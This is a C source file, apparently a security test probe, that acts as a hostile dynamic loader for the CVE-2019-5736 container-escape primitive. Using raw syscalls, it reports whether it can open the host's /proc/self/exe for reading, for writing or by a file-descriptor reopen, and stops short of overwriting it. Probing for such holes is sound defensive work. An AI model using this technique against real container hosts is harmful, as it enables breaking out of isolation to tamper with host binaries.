/* A hostile "dynamic loader" for the CVE-2019-5736 primitive of issue 10: installed as the
 * image's /lib64/ld-linux-x86-64.so.2, it runs whenever the kernel starts a dynamic binary
 * in the container. Started through a `#!/proc/self/exe` script, the binary is whatever
 * /proc/self/exe was for the process that exec'd the script: if that is a host binary (the
 * host's Python), this code runs with a host file as its executable. It reports what it can
 * reach of it. No libc (its start-up would read the main binary's headers): raw syscalls,
 * built with -nostdlib -static-pie so that the kernel can load it as an interpreter. */
#define SYS_read 0
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_readlink 89
#define SYS_exit_group 231
#define O_RDONLY 0
#define O_WRONLY 1
#define O_PATH 010000000

static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static long len(const char *s) {
    long n = 0;
    while (s[n])
        n++;
    return n;
}

static void say(const char *s) { sys3(SYS_write, 1, (long)s, len(s)); }

static void try_open(const char *what, const char *path, int flags) {
    long fd = sys3(SYS_open, (long)path, flags, 0);
    say("LOADER ");
    say(what);
    say(" ");
    say(path);
    if (fd >= 0) {
        say(": OPENED\n");
        sys3(SYS_close, fd, 0, 0);
    } else {
        say(": refused\n");
    }
}

void _start(void) {
    char link[512];
    long n = sys3(SYS_readlink, (long)"/proc/self/exe", (long)link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    say("LOADER RAN exe=");
    say(link);
    say("\n");
    try_open("read", "/proc/self/exe", O_RDONLY);
    try_open("write", "/proc/self/exe", O_WRONLY);
    long pfd = sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
    if (pfd >= 0 && pfd < 10) {
        char via[] = "/proc/self/fd/0";
        via[14] = (char)('0' + pfd);
        try_open("reopen-write", via, O_WRONLY);
    }
    sys3(SYS_exit_group, 0, 0, 0);
}
